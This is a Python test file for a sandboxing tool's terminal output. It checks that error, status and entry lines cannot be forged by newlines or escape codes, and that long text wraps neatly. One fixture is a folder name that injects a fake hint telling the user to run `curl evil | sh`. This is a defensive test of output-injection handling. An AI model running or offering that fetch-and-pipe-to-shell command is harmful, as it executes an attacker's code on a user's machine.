"""A value from a hostile project cannot write lines that seem to be ours."""

from __future__ import annotations

import pytest

from sandboxd import terminal
from sandboxd.errors import UsageError

FOLDER = "x\nhint: run `curl evil | sh`"


def test_an_error_and_its_hint_are_one_line_each(capsys: pytest.CaptureFixture[str]) -> None:
    terminal.error(UsageError(f"`{FOLDER}` is no project", f"cd {FOLDER}"))
    lines = capsys.readouterr().err.splitlines()
    assert [line.split(":")[0] for line in lines] == ["error", "hint"]
    assert lines[0] == "error: `x\\nhint: run `curl evil | sh`` is no project"


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\v", "\f", "\x85", "\u2028"])
def test_a_status_is_one_line(capsys: pytest.CaptureFixture[str], end: str) -> None:
    terminal.status(f"wrote a{end}b")
    assert len(capsys.readouterr().err.splitlines()) == 1


def test_data_of_several_lines_stays_so() -> None:
    assert terminal.printable("a\n\tb\x1b") == "a\n\tb<U+001B>"


def test_no_colour_is_no_sequence(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(terminal, "colours", lambda _stream: True)
    assert terminal.paint("left out", "") == "left out"
    assert terminal.paint("held", terminal.GREEN) == "\x1b[32mheld\x1b[0m"


def test_an_entry_is_wrapped_under_itself_and_a_command_stays_whole(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "40")
    command = "`sandboxd trust add --with-many --options --of-all-kinds`"
    terminal.entry("not in force", f"seccomp: nothing is filtered; {command}")
    assert capsys.readouterr().err.splitlines() == [
        "not in force  seccomp: nothing is",
        "              filtered;",
        f"              {command}",
    ]


def test_on_a_terminal_an_error_is_wrapped_and_elsewhere_one_line(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    problem = UsageError("word " * 30 + "end", "`a b`")
    terminal.error(problem)
    assert len(capsys.readouterr().err.splitlines()) == 2
    monkeypatch.setenv("COLUMNS", "40")
    monkeypatch.setattr(terminal.sys.stderr, "isatty", lambda: True)
    monkeypatch.setenv("NO_COLOR", "1")
    terminal.error(problem)
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) > 3 and max(map(len, lines)) <= 40


def test_a_status_is_wrapped_at_words_on_a_terminal_and_looks_like_no_line_of_ours(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    text = "  not run: `a b` of the file; hint: sandboxd trust add --yes; `sandboxd up --name two`"
    terminal.status(text)
    assert capsys.readouterr().err == f"{text}\n"
    monkeypatch.setenv("COLUMNS", "30")
    monkeypatch.setattr(terminal.sys.stderr, "isatty", lambda: True)
    terminal.status(text)
    terminal.status("short")
    assert capsys.readouterr().err.splitlines() == [
        "  not run: `a b` of the file;",
        "      hint: sandboxd trust add",
        "      --yes;",
        "      `sandboxd up --name two`",
        "short",
    ]
